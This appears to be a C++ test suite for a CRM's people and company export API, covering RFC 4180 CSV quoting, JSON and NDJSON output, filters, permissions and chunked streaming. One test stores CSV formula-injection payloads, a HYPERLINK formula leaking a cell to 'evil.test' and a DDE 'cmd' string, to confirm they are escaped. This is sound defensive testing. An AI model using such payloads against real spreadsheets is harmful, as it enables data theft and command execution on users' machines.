// Exports of lists and segments over real HTTP: CSV that parses back (BOM, RFC 4180 quoting of
// quotes, newlines, commas and semicolons), JSON and NDJSON, filters and permissions applied
// exactly as in lists, and large exports streamed with chunked transfer encoding.
#include <algorithm>
#include <map>
#include <regex>
#include <set>
#include <sstream>

#include "api/api_fixture.hpp"
#include "core/ids.hpp"
#include "storage/database.hpp"
#include "storage/transaction.hpp"

namespace rapport::testing {

namespace {

std::string encode(const std::string& s) {
    return url_encode(s);
}

const std::string kBom = "\xEF\xBB\xBF";

// An RFC 4180 reader, strict enough to catch a writer's mistakes: quoted cells may hold
// anything (doubled quotes), unquoted ones no quote; records end with CRLF.
std::vector<std::vector<std::string>> parse_csv(const std::string& text, char delimiter = ',') {
    std::vector<std::vector<std::string>> rows;
    std::vector<std::string> row;
    std::string cell;
    std::size_t i = 0;
    bool cell_started = false;
    while (i < text.size()) {
        const char c = text[i];
        if (!cell_started && c == '"') {
            ++i;
            for (;;) {
                if (i >= text.size()) throw std::runtime_error("unterminated quoted cell");
                if (text[i] == '"') {
                    if (i + 1 < text.size() && text[i + 1] == '"') {
                        cell += '"';
                        i += 2;
                        continue;
                    }
                    ++i;
                    break;
                }
                cell += text[i++];
            }
            cell_started = true;
            if (i < text.size() && text[i] != delimiter && text[i] != '\r') {
                throw std::runtime_error("text after a closing quote");
            }
            continue;
        }
        if (c == delimiter) {
            row.push_back(std::move(cell));
            cell.clear();
            cell_started = false;
            ++i;
        } else if (c == '\r') {
            if (i + 1 >= text.size() || text[i + 1] != '\n') throw std::runtime_error("CR without LF");
            row.push_back(std::move(cell));
            cell.clear();
            cell_started = false;
            rows.push_back(std::move(row));
            row.clear();
            i += 2;
        } else {
            if (c == '"' || c == '\n') throw std::runtime_error("quote or LF in an unquoted cell");
            cell += c;
            cell_started = true;
            ++i;
        }
    }
    if (cell_started || !row.empty()) throw std::runtime_error("the last record does not end with CRLF");
    return rows;
}

// The CSV rows as maps from header to cell; checks and strips the BOM.
std::vector<std::map<std::string, std::string>> csv_records(const std::string& body, char delimiter = ',') {
    EXPECT_EQ(body.substr(0, 3), kBom);
    auto rows = parse_csv(body.substr(3), delimiter);
    std::vector<std::map<std::string, std::string>> out;
    if (rows.empty()) return out;
    for (std::size_t r = 1; r < rows.size(); ++r) {
        EXPECT_EQ(rows[r].size(), rows[0].size()) << "row " << r;
        std::map<std::string, std::string> rec;
        for (std::size_t c = 0; c < rows[0].size() && c < rows[r].size(); ++c) rec[rows[0][c]] = rows[r][c];
        out.push_back(std::move(rec));
    }
    return out;
}

}  // namespace

class ExportApiTest : public ApiTest {
protected:
    static void SetUpTestSuite() {
        ApiTest::SetUpTestSuite();
        ws_ = server_->bootstrap("exports");
        auto owner = signed_in_client(*server_, ws_.owner_email, ws_.password);
        ASSERT_EQ(
            owner.post("/api/v1/custom-fields/person", {{"key", "notes"}, {"label", "Notes"}, {"type", "text"}}).status,
            201);
        ASSERT_EQ(owner.post("/api/v1/custom-fields/person", {{"key", "score"}, {"label", "Score"}, {"type", "number"}})
                      .status,
                  201);
    }
    static inline TestServer::Workspace ws_;
};

TEST_F(ExportApiTest, CsvRoundTripsTrickyValuesAndIsMarkedAsAnAttachment) {
    auto owner = owner_of(ws_);
    const std::string tag = unique_name("csv");
    struct Person {
        std::string first, last, city, notes;
        std::vector<std::string> tags;
        double score;
    };
    const std::vector<Person> people = {
        {"Ana", "O\"Brien, \"Jr\"", "Lisboa", "line one\nline two", {tag, "a;b"}, 12},
        {"José", "Niño; Pérez", "São Paulo", "semi; colon, comma", {tag}, 7.5},
        {"Zoë", "Plain", "Bologna", "", {tag, "zeta"}, 0},
    };
    std::map<std::string, const Person*> by_id;
    for (const auto& p : people) {
        nlohmann::json custom = {{"score", p.score}};
        if (!p.notes.empty()) custom["notes"] = p.notes;
        auto res = owner.post("/api/v1/people",
                              {{"fields", {{"first_name", p.first}, {"last_name", p.last}, {"city", p.city}}},
                               {"custom", custom},
                               {"tags", p.tags}});
        ASSERT_EQ(res.status, 201) << res.body;
        by_id[res.json()["id"]] = &p;
    }
    const std::string filter = nlohmann::json({{"field", "tags"}, {"op", "has_tag"}, {"value", tag}}).dump();
    auto res = owner.get("/api/v1/people/export?format=csv&sort=last_name&filter=" + encode(filter));
    ASSERT_EQ(res.status, 200) << res.body;
    EXPECT_EQ(res.header("content-type"), "text/csv; charset=utf-8");
    EXPECT_EQ(res.header("transfer-encoding"), "chunked");
    EXPECT_TRUE(std::regex_match(res.header("content-disposition"),
                                 std::regex(R"(attachment; filename="people-\d{4}-\d{2}-\d{2}\.csv")")))
        << res.header("content-disposition");

    const auto records = csv_records(res.body);
    ASSERT_EQ(records.size(), people.size()) << res.body;
    std::vector<std::string> order;
    for (const auto& rec : records) {
        ASSERT_TRUE(by_id.count(rec.at("id"))) << rec.at("id");
        const Person& p = *by_id[rec.at("id")];
        order.push_back(rec.at("last_name"));
        EXPECT_EQ(rec.at("first_name"), p.first);
        EXPECT_EQ(rec.at("last_name"), p.last);
        EXPECT_EQ(rec.at("city"), p.city);
        EXPECT_EQ(rec.at("custom.notes"), p.notes);
        EXPECT_EQ(rec.at("kind"), "b2b_contact");
        EXPECT_FALSE(rec.at("owner_user_id").empty());
        EXPECT_EQ(rec.at("team_id"), "");
        EXPECT_TRUE(
            std::regex_match(rec.at("created_at"), std::regex(R"(\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z)")))
            << rec.at("created_at");
        std::vector<std::string> tags = p.tags;
        std::sort(tags.begin(), tags.end());
        std::string joined;
        for (const auto& t : tags) joined += (joined.empty() ? "" : "; ") + t;
        EXPECT_EQ(rec.at("tags"), joined);
    }
    EXPECT_EQ(order, (std::vector<std::string>{"Niño; Pérez", "O\"Brien, \"Jr\"", "Plain"}));
    EXPECT_EQ(records[0].at("custom.score"), "7.5");
    EXPECT_EQ(records[2].at("custom.score"), "0");
    EXPECT_EQ(records[1].at("custom.score"), "12");

    // The header names built-in fields, custom fields and the record envelope.
    const auto header = parse_csv(res.body.substr(3)).at(0);
    for (const char* column : {"id", "first_name", "last_name", "email", "custom.notes", "custom.score", "tags",
                               "owner_user_id", "team_id", "created_at", "updated_at"}) {
        EXPECT_NE(std::find(header.begin(), header.end(), column), header.end()) << column;
    }
    // Quoting as RFC 4180 wants it: the raw text has the doubled quotes and quoted newlines.
    EXPECT_NE(res.body.find("\"O\"\"Brien, \"\"Jr\"\"\""), std::string::npos);
    EXPECT_NE(res.body.find("\"line one\nline two\""), std::string::npos);
    EXPECT_NE(res.body.find("\"Niño; Pérez\""), std::string::npos);

    // Semicolon-separated for spreadsheets set to Italian, Spanish or Portuguese.
    auto semi = owner.get("/api/v1/people/export?delimiter=semicolon&filter=" + encode(filter));
    ASSERT_EQ(semi.status, 200);
    const auto semi_records = csv_records(semi.body, ';');
    ASSERT_EQ(semi_records.size(), 3u);
    std::set<std::string> last_names;
    for (const auto& r : semi_records) last_names.insert(r.at("last_name"));
    EXPECT_EQ(last_names, (std::set<std::string>{"O\"Brien, \"Jr\"", "Niño; Pérez", "Plain"}));
}

TEST_F(ExportApiTest, CellsASpreadsheetWouldRunAreEscapedUnlessAskedForRaw) {
    auto owner = owner_of(ws_);
    const std::string tag = unique_name("formula");
    const std::string formula = "=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"Click\")";
    auto created = owner.post(
        "/api/v1/people",
        {{"fields",
          {{"first_name", formula}, {"last_name", "@SUM(1+1)"}, {"country", "IT"}, {"phone", "02 1234 5678"}}},
         {"custom", {{"notes", "-2+3+cmd|' /C calc'!A0"}, {"score", -12}}},
         {"tags", {tag}}});
    ASSERT_EQ(created.status, 201) << created.body;
    const std::string filter = encode(nlohmann::json({{"field", "tags"}, {"op", "has_tag"}, {"value", tag}}).dump());

    auto escaped = owner.get("/api/v1/people/export?filter=" + filter);
    ASSERT_EQ(escaped.status, 200) << escaped.body;
    auto records = csv_records(escaped.body);
    ASSERT_EQ(records.size(), 1u);
    EXPECT_EQ(records[0].at("first_name"), "'" + formula);
    EXPECT_EQ(records[0].at("last_name"), "'@SUM(1+1)");
    EXPECT_EQ(records[0].at("phone"), "'+390212345678");  // E.164 too, deliberately (see openapi.json)
    EXPECT_EQ(records[0].at("custom.notes"), "'-2+3+cmd|' /C calc'!A0");
    EXPECT_EQ(records[0].at("custom.score"), "-12");  // a number stays a number
    EXPECT_NE(escaped.body.find(",\"'=HYPERLINK("), std::string::npos);

    auto raw = owner.get("/api/v1/people/export?formula_escape=false&filter=" + filter);
    ASSERT_EQ(raw.status, 200) << raw.body;
    records = csv_records(raw.body);
    ASSERT_EQ(records.size(), 1u);
    EXPECT_EQ(records[0].at("first_name"), formula);
    EXPECT_EQ(records[0].at("phone"), "+390212345678");
    EXPECT_EQ(records[0].at("custom.notes"), "-2+3+cmd|' /C calc'!A0");

    auto wrong = owner.get("/api/v1/people/export?formula_escape=no");
    expect_problem(wrong, 422);
    EXPECT_TRUE(has_error_at(wrong, "?formula_escape"));
}

TEST_F(ExportApiTest, AFilteredExportHoldsOnlyTheMatchingRecordsAndJsonFormatsAgree) {
    auto owner = owner_of(ws_);
    const std::string city = unique_name("Town");
    for (int i = 0; i < 4; ++i) {
        auto res = owner.post("/api/v1/companies", {{"fields",
                                                     {{"legal_name", "Co " + std::to_string(i)},
                                                      {"country", "IT"},
                                                      {"city", i % 2 ? city : std::string("Elsewhere")}}}});
        ASSERT_EQ(res.status, 201) << res.body;
    }
    const std::string filter = nlohmann::json({{"field", "city"}, {"op", "eq"}, {"value", city}}).dump();
    auto csv = owner.get("/api/v1/companies/export?filter=" + encode(filter));
    ASSERT_EQ(csv.status, 200) << csv.body;
    EXPECT_NE(csv.header("content-disposition").find("companies-"), std::string::npos);
    const auto records = csv_records(csv.body);
    ASSERT_EQ(records.size(), 2u);
    for (const auto& r : records) EXPECT_EQ(r.at("city"), city);
    EXPECT_EQ(owner.get("/api/v1/companies/count?filter=" + encode(filter)).json()["count"], 2);

    auto list = owner.get("/api/v1/companies?filter=" + encode(filter)).json()["items"];
    auto json_export = owner.get("/api/v1/companies/export?format=json&filter=" + encode(filter));
    ASSERT_EQ(json_export.status, 200);
    EXPECT_EQ(json_export.header("content-type"), "application/json");
    EXPECT_EQ(json_export.json(), list);

    auto ndjson = owner.get("/api/v1/companies/export?format=ndjson&filter=" + encode(filter));
    ASSERT_EQ(ndjson.status, 200);
    EXPECT_EQ(ndjson.header("content-type"), "application/x-ndjson");
    std::istringstream lines(ndjson.body);
    std::string line;
    nlohmann::json from_lines = nlohmann::json::array();
    while (std::getline(lines, line)) from_lines.push_back(nlohmann::json::parse(line));
    EXPECT_EQ(from_lines, list);

    // Nothing matches: a header alone, an empty array.
    const std::string none =
        nlohmann::json({{"field", "city"}, {"op", "eq"}, {"value", unique_name("Nowhere")}}).dump();
    EXPECT_EQ(csv_records(owner.get("/api/v1/companies/export?filter=" + encode(none)).body).size(), 0u);
    EXPECT_EQ(owner.get("/api/v1/companies/export?format=json&filter=" + encode(none)).json(), nlohmann::json::array());
}

TEST_F(ExportApiTest, MistakesAreAnsweredBeforeAnythingIsStreamed) {
    auto owner = owner_of(ws_);
    auto format = owner.get("/api/v1/people/export?format=xlsx&delimiter=tab");
    expect_problem(format, 422);
    EXPECT_TRUE(has_error_at(format, "?format"));
    EXPECT_TRUE(has_error_at(format, "?delimiter"));
    EXPECT_EQ(format.header("transfer-encoding"), "");
    auto filter = owner.get("/api/v1/people/export?filter=" + encode(R"({"field":"citty","op":"eq","value":"x"})"));
    expect_problem(filter, 422);
    EXPECT_TRUE(has_error_at(filter, "?filter/field"));
    expect_problem(owner.get("/api/v1/people/export?filter=" + encode("{nope")), 400);
    expect_problem(owner.get("/api/v1/people/export?sort=tags"), 422);
    HttpClient anonymous = server_->client();
    expect_problem(anonymous.get("/api/v1/people/export"), 401);
}

TEST_F(ExportApiTest, ExportsHoldOnlyTheRecordsTheActorMayRead) {
    auto owner = owner_of(ws_);
    const auto email = unique_name("m") + "@exports.test";
    ASSERT_EQ(
        owner
            .post("/api/v1/users",
                  {{"email", email}, {"display_name", "M"}, {"role", "member"}, {"password", "long enough password"}})
            .status,
        201);
    auto member = signed_in_client(*server_, email, "long enough password");
    const std::string tag = unique_name("perm");
    ASSERT_EQ(member.post("/api/v1/people", {{"fields", {{"first_name", "Mine"}, {"last_name", "M"}}}, {"tags", {tag}}})
                  .status,
              201);
    ASSERT_EQ(
        owner.post("/api/v1/people", {{"fields", {{"first_name", "Theirs"}, {"last_name", "O"}}}, {"tags", {tag}}})
            .status,
        201);
    const std::string filter = nlohmann::json({{"field", "tags"}, {"op", "has_tag"}, {"value", tag}}).dump();
    EXPECT_EQ(csv_records(owner.get("/api/v1/people/export?filter=" + encode(filter)).body).size(), 2u);
    const auto mine = csv_records(member.get("/api/v1/people/export?filter=" + encode(filter)).body);
    ASSERT_EQ(mine.size(), 1u);
    EXPECT_EQ(mine[0].at("first_name"), "Mine");

    // The same through a segment.
    auto segment = owner.post("/api/v1/segments", {{"name", unique_name("Perm")},
                                                   {"kind", "b2c"},
                                                   {"entity_type", "person"},
                                                   {"type", "dynamic"},
                                                   {"filter", nlohmann::json::parse(filter)}});
    ASSERT_EQ(segment.status, 201) << segment.body;
    const std::string export_path = "/api/v1/segments/" + segment.json()["id"].get<std::string>() + "/export";
    EXPECT_EQ(csv_records(owner.get(export_path).body).size(), 2u);
    const auto member_rows = csv_records(member.get(export_path).body);
    ASSERT_EQ(member_rows.size(), 1u);
    EXPECT_EQ(member_rows[0].at("first_name"), "Mine");
    // Another workspace cannot export the list's records nor the segment.
    auto globex = owner_of(globex_);
    EXPECT_EQ(csv_records(globex.get("/api/v1/people/export?filter=" + encode(filter)).body).size(), 0u);
    expect_problem(globex.get(export_path), 404);
}

TEST_F(ExportApiTest, ASegmentExportHoldsItsMembersUnderItsName) {
    auto owner = owner_of(ws_);
    std::vector<std::string> ids;
    for (const char* name : {"Uno", "Due", "Tre"}) {
        auto res = owner.post("/api/v1/companies", {{"fields", {{"legal_name", name}, {"country", "IT"}}}});
        ASSERT_EQ(res.status, 201);
        ids.push_back(res.json()["id"]);
    }
    const std::string name = "Clienti Più Fedeli " + unique_name("x");
    auto segment = owner.post("/api/v1/segments",
                              {{"name", name}, {"kind", "b2b"}, {"entity_type", "company"}, {"type", "static"}});
    ASSERT_EQ(segment.status, 201) << segment.body;
    const std::string id = segment.json()["id"];
    ASSERT_EQ(owner.post("/api/v1/segments/" + id + "/members", {{"ids", {ids[0], ids[2]}}}).status, 200);

    auto res = owner.get("/api/v1/segments/" + id + "/export?sort=legal_name&order=desc");
    ASSERT_EQ(res.status, 200) << res.body;
    const auto records = csv_records(res.body);
    ASSERT_EQ(records.size(), 2u);
    EXPECT_EQ(records[0].at("legal_name"), "Uno");
    EXPECT_EQ(records[1].at("legal_name"), "Tre");
    EXPECT_NE(records[0].find("vat_id"), records[0].end());  // company columns
    const auto disposition = res.header("content-disposition");
    EXPECT_EQ(disposition.rfind("attachment; filename=\"segment-clienti-pi-fedeli-", 0), 0u) << disposition;
    EXPECT_NE(disposition.find("filename*=UTF-8''Clienti%20Pi%C3%B9%20Fedeli"), std::string::npos) << disposition;

    auto json_export = owner.get("/api/v1/segments/" + id + "/export?format=json");
    ASSERT_EQ(json_export.status, 200);
    std::set<std::string> exported;
    for (const auto& r : json_export.json()) exported.insert(r["id"].get<std::string>());
    EXPECT_EQ(exported, (std::set<std::string>{ids[0], ids[2]}));
    expect_problem(owner.get("/api/v1/segments/" + id + "/export?format=pdf"), 422);
}

TEST_F(ExportApiTest, ALargeExportArrivesChunkedAndComplete) {
    // Thousands of rows go straight into the database: the export is under test, not creation.
    const auto bulk = server_->bootstrap("exportbulk");
    auto owner = signed_in_client(*server_, bulk.owner_email, bulk.password);
    const std::string workspace = owner.get("/api/v1/me").json()["workspace"]["id"];
    const Id ws = *parse_id(workspace);
    constexpr int kRows = 5200;
    constexpr int kPerStatement = 100;
    {
        auto db = storage::open_database(server_->database_url());
        ASSERT_TRUE(db) << db.error().detail;
        auto written = storage::write_transaction(**db, [&](storage::Connection& c) -> Status {
            for (int start = 0; start < kRows; start += kPerStatement) {
                std::string sql =
                    "INSERT INTO people (workspace_id, person_id, first_name, last_name, city, kind, custom, "
                    "created_at,"
                    " updated_at) VALUES ";
                storage::Params params;
                for (int i = start; i < start + kPerStatement; ++i) {
                    const std::size_t p = params.size();
                    sql += (i == start ? "" : ", ") + std::string("(") + "$" + std::to_string(p + 1) + ", $" +
                           std::to_string(p + 2) + ", $" + std::to_string(p + 3) + ", $" + std::to_string(p + 4) +
                           ", $" + std::to_string(p + 5) + ", 'b2b_contact', '{}', $" + std::to_string(p + 6) + ", $" +
                           std::to_string(p + 6) + ")";
                    params.push_back(ws);
                    params.push_back(new_id());
                    params.push_back("First " + std::to_string(i));
                    params.push_back("Last, \"" + std::to_string(i) + "\"");
                    params.push_back(std::string(i % 2 ? "Odd" : "Even"));
                    params.push_back(std::int64_t{1'700'000'000'000} + i);
                }
                RAPPORT_CHECK(c.execute(sql, params));
            }
            return {};
        });
        ASSERT_TRUE(written) << written.error().detail;
    }

    auto csv = owner.get("/api/v1/people/export");
    ASSERT_EQ(csv.status, 200);
    EXPECT_EQ(csv.header("transfer-encoding"), "chunked");
    EXPECT_EQ(csv.header("content-length"), "");
    const auto records = csv_records(csv.body);
    ASSERT_EQ(records.size(), static_cast<std::size_t>(kRows));
    std::set<std::string> ids;
    for (const auto& r : records) ids.insert(r.at("id"));
    EXPECT_EQ(ids.size(), static_cast<std::size_t>(kRows));  // no row twice across chunk boundaries
    EXPECT_EQ(records[0].at("last_name"), "Last, \"0\"");
    EXPECT_EQ(records.back().at("last_name"), "Last, \"" + std::to_string(kRows - 1) + "\"");

    // Sorted on a column, filtered, as JSON: still complete across batches.
    const std::string filter = R"({"field":"city","op":"eq","value":"Odd"})";
    auto json_export =
        owner.get("/api/v1/people/export?format=json&sort=first_name&order=desc&filter=" + encode(filter));
    ASSERT_EQ(json_export.status, 200);
    EXPECT_EQ(json_export.header("transfer-encoding"), "chunked");
    const auto items = json_export.json();
    ASSERT_TRUE(items.is_array());
    ASSERT_EQ(items.size(), static_cast<std::size_t>(kRows / 2));
    for (std::size_t i = 1; i < items.size(); ++i) {
        ASSERT_GE(items[i - 1]["fields"]["first_name"].get<std::string>(),
                  items[i]["fields"]["first_name"].get<std::string>());
    }
}

}  // namespace rapport::testing
